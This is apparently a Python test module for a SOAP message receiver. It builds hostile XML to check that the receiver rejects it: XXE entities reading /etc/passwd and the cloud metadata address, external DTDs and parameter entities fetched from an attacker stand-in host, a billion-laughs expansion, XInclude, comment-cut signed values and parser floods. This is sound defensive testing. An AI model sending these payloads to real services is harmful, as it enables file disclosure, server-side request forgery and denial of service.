"""Hostile XML: document types, entities, encodings, what cuts a value, and floods of every kind."""

from collections.abc import Callable
from typing import Final

from attrs import evolve
from lxml import etree

from euca.soap import namespaces as ns
from euca.testing.attacks.material import EVERYWHERE, REQUESTS, Attack, Door, Step
from euca.testing.attacks.wrapping import BODY, HEADER
from euca.testing.signed_messages import Draft, add, one

ENTITIES: Final = ("CVE-2012-4067",)
EXPANSION: Final = (*ENTITIES, "WS-Attacker: recursive entities")
EXTERNAL: Final = (*ENTITIES, "WS-Attacker: external entity")
_LAUGHS: Final = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
Late = Callable[[bytes], bytes]


def _late(change: Late) -> Step:
    return lambda door, good: evolve(good, late=change)


def _before_all(text: str) -> Step:
    return _late(lambda data: text.encode() + data)


def _typed(subset: str, used: str = "") -> Step:
    """A document type; `used` stands in the body's text."""

    def step(door: Door, good: Draft) -> Draft:
        def change(data: bytes) -> bytes:
            at = data.index(b"</soap:Body>")
            return f"<!DOCTYPE x [{subset}]>".encode() + data[:at] + used.encode() + data[at:]

        return evolve(good, late=change)

    return step


def _include(door: Door, good: Draft) -> Draft:
    content = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
    return evolve(good, after=add(f"{BODY}/*", content))


def _stylesheet(door: Door, good: Draft) -> Draft:
    return evolve(good, late=lambda data: b'<?xml-stylesheet href="http://evil.example/x.xsl"?>' + data)


def _cut(what: str) -> Step:
    """In the middle of the first text of the body, after signing: canonicalisation leaves comments out."""

    def step(door: Door, good: Draft) -> Draft:
        def after(root: etree._Element) -> None:
            holder = next(node for node in one(root, BODY).iter() if node.text and node.text.strip())
            text = holder.text or ""
            node = etree.Comment("") if what == "comment" else etree.ProcessingInstruction("x", "y")
            holder.text = text[:4]
            node.tail = text[4:]
            holder.insert(0, node)

        return evolve(good, after=after)

    return step


def _addressed_cut(door: Door, good: Draft) -> Draft:
    def after(root: etree._Element) -> None:
        holder = one(root, f"{HEADER}/wsa:Action")
        node = etree.Comment("")
        node.tail, holder.text = holder.text, ""
        holder.insert(0, node)

    return evolve(good, after=after)


# Floods


def _nested(levels: int) -> Step:
    return _child("<a>" * levels + "</a>" * levels)


def _million(door: Door, good: Draft) -> Draft:
    """A million open tags, as far as the size allows: three bytes each, and none is ever closed."""

    def late(data: bytes) -> bytes:
        at = data.index(b"</soap:Body>")
        room = min(1_000_000, (door.profile.limits.bytes - len(data) - 16) // 3)
        return data[:at] + b"<a>" * room + data[at:]

    return evolve(good, late=late)


def _whole_million(door: Door, good: Draft) -> Draft:
    return evolve(good, late=lambda data: data.replace(b"</soap:Body>", b"<a>" * 1_000_000 + b"</soap:Body>", 1))


def _child(content: str) -> Step:
    return lambda door, good: evolve(
        good, late=lambda data: data.replace(b"</soap:Body>", content.encode() + b"</soap:Body>", 1)
    )


def _array(door: Door, good: Draft) -> Draft:
    name = "{http://schemas.xmlsoap.org/soap/encoding/}arrayType"
    return evolve(good, after=lambda root: one(root, f"{BODY}/*").set(name, "xsd:int[1000000000]"))


def _colliding(number: int) -> list[str]:
    """Names of one hash value: "Ez" and "FY" have the same under the hash function of many a table (33 times the last one, and the letter)."""
    return ["".join(("Ez", "FY")[(value >> bit) & 1] for bit in range(10)) for value in range(number)]


def _attributes(names: list[str], value: str = "") -> str:
    return "<a " + " ".join(f'{name}="{value}"' for name in names) + "/>"


def encoded() -> list[Attack]:
    """SOAP encoding, which documents of literal use have nothing of, and SOAP 1.2."""
    return [
        Attack(
            name="SOAP 1.2: its envelope",
            what="The envelope's namespace is that of SOAP 1.2.",
            check="shape.envelope",
            bad=_late(lambda data: data.replace(ns.SOAP.encode(), ns.SOAP12.encode())),
        ),
        Attack(
            name="SOAP 1.2: its envelope and media type",
            what="The same, as application/soap+xml.",
            check="http.415",
            bad=_late(lambda data: data.replace(ns.SOAP.encode(), ns.SOAP12.encode())),
            http={"Content-Type": "application/soap+xml; charset=utf-8"},
            status=415,
            at=REQUESTS,
        ),
        Attack(
            name="references of SOAP encoding: the body behind an href",
            what="The body's element is empty and leads by href to what stands in a header that nobody signed.",
            check="reference.digest",
            bad=_hrefs,
        ),
        Attack(
            name="references of SOAP encoding: a second root in the body",
            what="Body holds an element with href and another with that id, which SOAP encoding joins.",
            check="shape.body",
            bad=lambda door, good: evolve(good, body=f'<a href="#m"/><b id="m">{good.body}</b>'),
        ),
        Attack(
            name="references of SOAP encoding: an id in the signed body",
            what="The signed body holds an id for somebody else's href.",
            check="id.foreign",
            bad=lambda door, good: evolve(good, body=f'<a id="m">{good.body}</a>'),
        ),
    ]


def _hrefs(door: Door, good: Draft) -> Draft:
    """The content moves into a header with an id, the body's element points there."""

    def after(root: etree._Element) -> None:
        content = one(root, f"{BODY}/*")
        for child in list(content):
            content.remove(child)
        content.set("href", "#forged")

    return evolve(good, after=after)


_DOCUMENT_TYPES: Final[list[tuple[str, str, str, Step, tuple[str, ...]]]] = [
    (
        "document types: the smallest",
        "A document type with nothing in it.",
        "xml.doctype",
        _before_all("<!DOCTYPE x>"),
        ENTITIES,
    ),
    (
        "document types: after the declaration",
        "A document type where an honest one would stand.",
        "xml.doctype",
        _before_all('<?xml version="1.0"?>\n<!DOCTYPE x>'),
        ENTITIES,
    ),
    (
        "document types: behind a comment",
        "A document type that a search for the first characters misses.",
        "xml.prolog",
        _before_all("<!-- x --><!DOCTYPE x>"),
        ENTITIES,
    ),
    (
        "document types: inside the message",
        "A document type in the middle of the message.",
        "xml.wellformed",
        _late(lambda data: data.replace(b"<soap:Body", b"<!DOCTYPE x><soap:Body", 1)),
        ENTITIES,
    ),
    (
        "document types: in small letters",
        "A document type in letters that XML does not know.",
        "xml.prolog",
        _before_all("<!doctype x>"),
        ENTITIES,
    ),
    (
        "document types: an external subset over HTTP",
        "The document type is to be fetched from the attacker's machine.",
        "xml.doctype",
        _before_all('<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">'),
        EXTERNAL,
    ),
    (
        "document types: an external subset from a file",
        "The document type is to be read from a device that never ends.",
        "xml.doctype",
        _before_all('<!DOCTYPE x SYSTEM "file:///dev/random">'),
        EXTERNAL,
    ),
    (
        "entities: a billion laughs",
        "Ten entities, each ten times the one before.",
        "xml.doctype",
        _typed(f'<!ENTITY e0 "ha">{_LAUGHS}', "&e9;"),
        EXPANSION,
    ),
    (
        "entities: quadratic growth",
        "One long entity, used a thousand times.",
        "xml.doctype",
        _typed(f'<!ENTITY e "{"x" * 10_000}">', "&e;" * 1000),
        EXPANSION,
    ),
    (
        "entities: one that holds itself",
        "An entity that is part of itself.",
        "xml.doctype",
        _typed('<!ENTITY a "&b;"><!ENTITY b "&a;">', "&a;"),
        EXPANSION,
    ),
    (
        "entities: parameter entities that hold each other",
        "Parameter entities that grow in the document type.",
        "xml.doctype",
        _typed('<!ENTITY % a "x"><!ENTITY % b "%a;%a;">%b;'),
        EXPANSION,
    ),
    (
        "entities: a file's content",
        "An external entity of a file of the receiver.",
        "xml.doctype",
        _typed('<!ENTITY e SYSTEM "file:///etc/passwd">', "&e;"),
        EXTERNAL,
    ),
    (
        "entities: another machine's content",
        "An external entity on a machine behind the receiver's firewall.",
        "xml.doctype",
        _typed('<!ENTITY e SYSTEM "http://169.254.169.254/latest/">', "&e;"),
        EXTERNAL,
    ),
    (
        "entities: an external parameter entity",
        "A parameter entity that is fetched and tells what it has seen.",
        "xml.doctype",
        _typed('<!ENTITY % e SYSTEM "http://evil.example/e"> %e;'),
        EXTERNAL,
    ),
    (
        "entities: a default attribute",
        "A document type gives the body an attribute that nobody signed.",
        "xml.doctype",
        _typed('<!ATTLIST soap:Body wsu:Id CDATA "Body">'),
        ENTITIES,
    ),
    (
        "entities: an undeclared one",
        "A reference to an entity that is not declared.",
        "xml.wellformed",
        _late(lambda data: data.replace(b"</soap:Body>", b"&e;</soap:Body>", 1)),
        ENTITIES,
    ),
]


def document_types() -> list[Attack]:
    """No document has a type."""
    return [Attack(name=n, what=w, check=c, bad=b, sources=s) for n, w, c, b, s in _DOCUMENT_TYPES]


_VALUES: Final[list[tuple[str, str, str, Step]]] = [
    (
        "values: a comment cuts one",
        "A comment inside a value of the signed body: canonicalisation leaves it out, a reader may stop at it.",
        "xml.comment",
        _cut("comment"),
    ),
    (
        "values: a processing instruction cuts one",
        "A processing instruction inside a value of the signed body.",
        "xml.instruction",
        _cut("instruction"),
    ),
    (
        "values: a comment behind the end",
        "A comment behind the envelope.",
        "xml.comment",
        _late(lambda data: data + b"<!---->"),
    ),
    (
        "values: an instruction behind the end",
        "A processing instruction behind the envelope.",
        "xml.instruction",
        _late(lambda data: data + b"<?x y?>"),
    ),
    (
        "values: an instruction before the envelope",
        "A stylesheet of the attacker's for whoever looks at the message.",
        "xml.encoding",
        _stylesheet,
    ),
    (
        "values: XInclude",
        "A file of the receiver is to be included into the signed body.",
        "reference.digest",
        _include,
    ),
    (
        "values: a NUL",
        "A NUL byte in a value.",
        "xml.wellformed",
        _late(lambda data: data.replace(b"</soap:Body>", b"\0</soap:Body>", 1)),
    ),
    (
        "values: a NUL written as a reference",
        "A character reference to NUL.",
        "xml.wellformed",
        _late(lambda data: data.replace(b"</soap:Body>", b"&#0;</soap:Body>", 1)),
    ),
    (
        "values: a second document behind the first",
        "Another envelope behind the signed one.",
        "xml.wellformed",
        _late(lambda data: data + data),
    ),
    (
        "values: a text in Body beside its element",
        "A text between the elements of the signed envelope.",
        "shape.text",
        lambda d, g: evolve(g, body=f"x{g.body}"),
    ),
    (
        "values: a relative namespace",
        "An element whose namespace has no canonical form.",
        "xml.namespace",
        lambda d, g: evolve(g, after=lambda root: add(f"{BODY}/*", '<r:x xmlns:r="relative"/>')(root)),
    ),
]


def values() -> list[Attack]:
    """What cuts a value in two, or lets another be read."""
    made = [Attack(name=n, what=w, check=c, bad=b) for n, w, c, b in _VALUES]
    made.append(
        Attack(
            name="values: a comment cuts the Action",
            what="A comment inside the signed Action: a reader may see an empty one.",
            check="xml.comment",
            bad=_addressed_cut,
            at=frozenset(name for name in EVERYWHERE if "tiers" in name),
        )
    )
    return made


_DECLARED: Final = b'<?xml version="1.0" encoding="%s"?>'
_ENCODINGS: Final[list[tuple[str, str, str, Late]]] = [
    (
        "encodings: UTF-16",
        "The message in UTF-16 with its mark.",
        "xml.encoding",
        lambda data: data.decode().encode("utf-16"),
    ),
    (
        "encodings: UTF-16 without its mark",
        "The message in UTF-16, little end first.",
        "xml.wellformed",
        lambda data: data.decode().encode("utf-16-le"),
    ),
    (
        "encodings: UTF-32",
        "The message in UTF-32 with its mark.",
        "xml.encoding",
        lambda data: data.decode().encode("utf-32"),
    ),
    (
        "encodings: UTF-7",
        "The message in UTF-7, which hides its tags.",
        "xml.prolog",
        lambda data: data.replace(b"<", b"+ADw-"),
    ),
    (
        "encodings: UTF-7 that is declared",
        "A declaration of UTF-7.",
        "xml.encoding",
        lambda data: _DECLARED % b"utf-7" + data,
    ),
    (
        "encodings: a lying declaration",
        "UTF-8 that says it is Latin 1.",
        "xml.encoding",
        lambda data: _DECLARED % b"iso-8859-1" + data,
    ),
    (
        "encodings: UTF-8 that says it is UTF-16",
        "Bytes of UTF-8 under a declaration of UTF-16.",
        "xml.encoding",
        lambda data: _DECLARED % b"utf-16" + data,
    ),
    (
        "encodings: EBCDIC",
        "The message in EBCDIC.",
        "xml.encoding",
        lambda data: ('<?xml version="1.0" encoding="cp037"?>' + data.decode()).encode("cp037"),
    ),
    (
        "encodings: XML 1.1",
        "XML 1.1, which knows other characters.",
        "xml.encoding",
        lambda data: b'<?xml version="1.1"?>' + data,
    ),
    (
        "encodings: an overlong character",
        "A character in more bytes than it needs.",
        "xml.encoding",
        lambda data: data.replace(b"</soap:Body>", b"\xc0\xbc</soap:Body>", 1),
    ),
    (
        "encodings: half of a pair",
        "Half of a surrogate pair, as bytes.",
        "xml.encoding",
        lambda data: data.replace(b"</soap:Body>", b"\xed\xa0\x80</soap:Body>", 1),
    ),
]


def encodings() -> list[Attack]:
    """UTF-8, and nothing that only says so."""
    return [Attack(name=n, what=w, check=c, bad=_late(b)) for n, w, c, b in _ENCODINGS]


_COERCIVE: Final = ("WS-Attacker: coercive parsing",)
_COUNT: Final = ("WS-Attacker: attribute count",)
_HASHES: Final = ("WS-Attacker: hash collision, by names of attributes",)
_PREFIXED: Final = ("WS-Attacker: hash collision, by prefixes",)
_URIS: Final = ("WS-Attacker: hash collision, by namespaces",)
_COLLIDING: Final = _colliding(1000)
_FLOODS: Final[list[tuple[str, str, str, Step, tuple[str, ...], frozenset[str], str]]] = [
    (
        "floods: sixty-five levels",
        "One level more than is taken.",
        "limits.depth",
        _nested(63),
        _COERCIVE,
        EVERYWHERE,
        "",
    ),
    (
        "floods: ten thousand levels",
        "Ten thousand levels of elements, each closed.",
        "xml.wellformed",
        _nested(10_000),
        _COERCIVE,
        EVERYWHERE,
        "",
    ),
    (
        "floods: a million levels, as far as the size allows",
        "Tags that are opened and never closed.",
        "xml.wellformed",
        _million,
        _COERCIVE,
        EVERYWHERE,
        "",
    ),
    (
        "floods: a million levels",
        "A million tags that are opened and never closed: three megabytes.",
        "limits.bytes",
        _whole_million,
        _COERCIVE,
        REQUESTS,
        "413",
    ),
    (
        "floods: sixty-five attributes",
        "One attribute more than is taken.",
        "limits.attributes",
        _child(_attributes([f"a{n}" for n in range(65)])),
        _COUNT,
        EVERYWHERE,
        "",
    ),
    (
        "floods: sixteen thousand attributes",
        "Canonicalisation would sort them.",
        "limits.attributes",
        _child(_attributes([f"a{n}" for n in range(16_000)])),
        _COUNT,
        EVERYWHERE,
        "",
    ),
    (
        "floods: attributes whose names collide",
        "A thousand names of one hash value.",
        "limits.attributes",
        _child(_attributes(_COLLIDING)),
        _HASHES,
        EVERYWHERE,
        "",
    ),
    (
        "floods: prefixes that collide",
        "A thousand prefixes of one hash value.",
        "limits.namespaces",
        _child("<a " + " ".join(f'xmlns:{n}="urn:x"' for n in _COLLIDING) + "/>"),
        _PREFIXED,
        EVERYWHERE,
        "",
    ),
    (
        "floods: namespaces that collide",
        "A thousand namespaces of one hash value.",
        "limits.namespaces",
        _child("<a " + " ".join(f'xmlns:p{i}="urn:{n}"' for i, n in enumerate(_COLLIDING)) + "/>"),
        _URIS,
        EVERYWHERE,
        "",
    ),
    (
        "floods: namespaces one inside the other",
        "Three hundred declarations, one on each element.",
        "limits.namespaces",
        _child("<a>" + "".join(f'<b xmlns:x{n}="urn:{n}"/>' for n in range(300)) + "</a>"),
        _URIS,
        EVERYWHERE,
        "",
    ),
    (
        "floods: an element's long name",
        "An element with a name of a hundred thousand letters.",
        "limits.names",
        _child(f"<{'a' * 40_000}/>"),
        ("WS-Attacker: overlong names",),
        EVERYWHERE,
        "",
    ),
    (
        "floods: an attribute's long name",
        "An attribute with a name of forty thousand letters.",
        "limits.names",
        _child(f"<a {'a' * 40_000}=''/>"),
        ("WS-Attacker: overlong names",),
        EVERYWHERE,
        "",
    ),
    (
        "floods: a long prefix",
        "A namespace under a prefix of forty thousand letters.",
        "limits.names",
        _child(f"<{'p' * 40_000}:a xmlns:{'p' * 40_000}='urn:x'/>"),
        ("WS-Attacker: overlong names",),
        EVERYWHERE,
        "",
    ),
    (
        "floods: an array of a billion elements",
        "The body's element says that it is a SOAP array of that length, for whoever makes room for it.",
        "reference.digest",
        _array,
        ("WS-Attacker: SOAP array length",),
        EVERYWHERE,
        "",
    ),
    (
        "floods: fifty thousand elements",
        "As many elements as find room, beside the body's one.",
        "limits.children",
        _child("<a/>" * 50_000),
        ("WS-Attacker: element count",),
        EVERYWHERE,
        "",
    ),
    (
        "floods: a message too long",
        "More bytes than a message may have.",
        "limits.bytes",
        _late(lambda data: data + b" " * (17 * 2**20)),
        (),
        EVERYWHERE,
        "413",
    ),
]


def floods() -> list[Attack]:
    """Whatever takes more than its share of time or memory."""
    made = []
    for name, what, check, bad, sources, at, status in _FLOODS:
        made.append(
            Attack(
                name=name,
                what=what,
                check=check,
                bad=bad,
                sources=sources,
                at=at,
                status=int(status) if status else 500,
            )
        )
    return made


def attacks() -> list[Attack]:
    """All of this module's."""
    return [*document_types(), *values(), *encodings(), *floods(), *encoded()]
